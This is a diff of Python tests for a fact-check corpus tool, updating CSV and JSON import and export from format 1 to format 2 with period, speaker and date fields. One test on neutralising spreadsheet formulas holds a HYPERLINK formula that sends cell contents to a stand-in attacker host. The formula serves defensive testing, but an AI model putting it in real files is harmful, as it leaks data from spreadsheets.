@@ -25,8 +25,9 @@ ESSAY = "The Soviet navy used Tartus from 1971. Nobody said, “we will leave”
 
 
 def _doc():
+    """A format 1 document: format 2 adds to it (``_doc2``), and format 1 still imports."""
     return {
-        "format": corpus.FORMAT,
+        "format": corpus.FORMAT_1,
         "sources": [
             {
                 "key": "wire",
@@ -132,7 +133,11 @@ def test_it_imports_then_exports_the_same_corpus_with_its_offsets(db, tmp_path):
     assert WIRE[111:149] == "Russia keeps its naval base at Tartus."
     typed = by_quote['Officials said the "agreements will be respected"']
     assert WIRE[typed["start"] : typed["end"]] == "Officials said the “agreements will be respected”"
-    assert second["as_of"] == "2025-10-15"
+    # Format 1's as_of is the start of the period the statement speaks about; nothing else is inferred.
+    assert second["period"] == {"from": "2025-10-15", "to": None}
+    assert (second["speaker"], second["stated_on"]) == (None, None)
+    assert typed["period"] is None
+    assert exported["format"] == "factcheck-corpus/2"
     assert exported["sources"][1]["as_of"] == "2025-10"
 
 
@@ -163,10 +168,12 @@ def test_it_round_trips_claims_through_csv(db, tmp_path):
     path = str(tmp_path / "claims.csv")
     call_command("export_corpus", "-o", path, stderr=io.StringIO())
     text = Path(path).read_text(encoding="utf-8")
-    assert text.splitlines()[0] == "claim_key,topic,claim_text,source,stance,quote,occurrence,as_of"
+    assert text.splitlines()[0] == (
+        "claim_key,topic,claim_text,claim_kind,source,stance,quote,occurrence,speaker,stated_on,period_from,period_to"
+    )
     # The repeated quote carries its occurrence; the claim without a source has a row of its own.
-    assert "Russia keeps its naval base at Tartus.,2,2025-10-15" in text
-    assert "hmeimim-stays,bases,Russia keeps Hmeimim.,,,,," in text
+    assert "Russia keeps its naval base at Tartus.,2,,,2025-10-15," in text
+    assert "hmeimim-stays,bases,Russia keeps Hmeimim.,event,,,,,,,," in text
 
     for claim in Claim.objects.all():
         claim.delete()
@@ -207,8 +214,8 @@ def test_it_writes_cells_a_spreadsheet_would_run_as_formulas_inert_and_reads_the
     path = tmp_path / "claims.csv"
     call_command("export_corpus", "-o", str(path), stderr=io.StringIO())
     rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))[1:]
-    assert {tuple(row[:5]) for row in rows} == {("'-k", "'-bases", "'=1+1", "'-wire", "supports")}
-    assert sorted(row[5] for row in rows) == sorted(
+    assert {(*row[:3], *row[4:6]) for row in rows} == {("'-k", "'-bases", "'=1+1", "'-wire", "supports")}
+    assert sorted(row[6] for row in rows) == sorted(
         [
             '\'=HYPERLINK("http://evil.example/?"&A1,"Open")',
             "'+7% growth in trade",
@@ -412,16 +419,19 @@ def test_it_refuses_a_new_source_text_that_drops_a_stored_quote(db, tmp_path):
 
 def test_it_reports_every_problem_at_once(db, tmp_path):
     doc = _doc()
-    doc["format"] = "factcheck-corpus/2"
+    doc["format"] = "factcheck-corpus/3"
     doc["sources"][0]["kind"] = "blog"
     doc["sources"][0]["url"] = "not a url"
     doc["claims"][0]["assertions"][0]["stance"] = None
     path = _write_json(tmp_path, doc)
     assert _refused(path) == [
-        f"{path}: format: expected 'factcheck-corpus/1', got 'factcheck-corpus/2'",
+        f"{path}: format: expected 'factcheck-corpus/2' (or the older 'factcheck-corpus/1'), got 'factcheck-corpus/3'",
         f"{path}: sources[0] (key 'wire'): field 'url': 'not a url' is not a valid URL",
         f"{path}: sources[0] (key 'wire'): field 'kind': 'blog' is not one of "
         "encyclopedia, news, analysis, wire, official, essay, other",
+        # Checked as the current format: its assertions give a period, not format 1's as_of.
+        f"{path}: claims[0] (key 'tartus-stays') assertions[0]: unknown field(s) 'as_of' "
+        "(format 2 gives the period as 'period': {'from', 'to'})",
         f"{path}: claims[0] (key 'tartus-stays') assertions[0]: field 'stance': None is not one of "
         "supports, disputes, qualifies",
     ]
@@ -441,7 +451,7 @@ def test_it_refuses_a_csv_missing_a_column(stored, tmp_path):
     path = _write(tmp_path, "claims.csv", "claim_key,topic,claim_text,source,quote,as_of\nk,bases,T,wire,Q,\n")
     assert _refused(path) == [
         f"{path}: line 1: missing column(s) 'stance', 'occurrence'",
-        f"{path}: line 1: the header must name the columns {', '.join(corpus.CSV_COLUMNS)}",
+        f"{path}: line 1: the header must name the columns {', '.join(corpus.CSV_COLUMNS_1)}",
     ]
 
 
